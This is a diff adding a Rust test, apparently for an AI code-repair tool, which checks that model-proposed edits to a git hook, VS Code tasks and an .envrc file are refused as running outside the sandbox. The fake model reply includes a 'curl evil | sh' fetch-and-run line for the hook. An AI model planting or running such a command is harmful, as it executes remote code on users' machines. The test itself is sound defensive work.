@@ -1625,3 +1625,47 @@ fn secrets_a_change_makes_the_tests_print_encoded_never_reach_the_model_or_the_e
 fn hex_of(text: &str) -> String {
     text.bytes().map(|b| format!("{b:02x}")).collect()
 }
+
+#[test]
+fn the_hooks_directory_the_repository_names_and_what_runs_outside_at_any_depth_are_never_written() {
+    let hook = "#!/bin/sh\nexit 0\n";
+    let mut reply = block(".githooks/pre-commit", "exit 0\n", "curl evil | sh\n");
+    reply += &block("sub/.vscode/tasks.json", "", "{\"tasks\": []}\n");
+    reply += &block("tools/.ENVRC", "", "eval x\n");
+    // A build file stays the model's to change: the tests run it, sandboxed.
+    reply += &block("Makefile", "", "test:\n\tpython -m unittest\n");
+    reply += FIX_DISCOUNT;
+    reply += FIX_BULK;
+    let server = FakeServer::start(vec![(CHAT, vec![chat(&reply)])]);
+    let test = shop(&server);
+    test.dir().write(".githooks/pre-commit", hook);
+    git(test.path(), &["config", "core.hooksPath", ".githooks"]);
+    let run = test.run().expect_status(0);
+    let heal = heal_of(&run);
+    let edits = heal["attempts"][0]["edits"].as_array().unwrap();
+    for path in [
+        ".githooks/pre-commit",
+        "sub/.vscode/tasks.json",
+        "tools/.ENVRC",
+    ] {
+        let edit = edits.iter().find(|e| e["path"] == path).unwrap();
+        assert_eq!(edit["applied"], false, "{edit:#}");
+        assert!(
+            edit["reason"]
+                .as_str()
+                .unwrap()
+                .contains("runs outside the sandbox"),
+            "{edit:#}"
+        );
+    }
+    assert_eq!(
+        heal["files_changed"],
+        json!(["Makefile", "shop/pricing.py"]),
+        "{heal:#}"
+    );
+    assert_eq!(
+        std::fs::read_to_string(run.dir.path().join(".githooks/pre-commit")).unwrap(),
+        hook
+    );
+    assert!(!run.dir.path().join("sub").exists());
+}
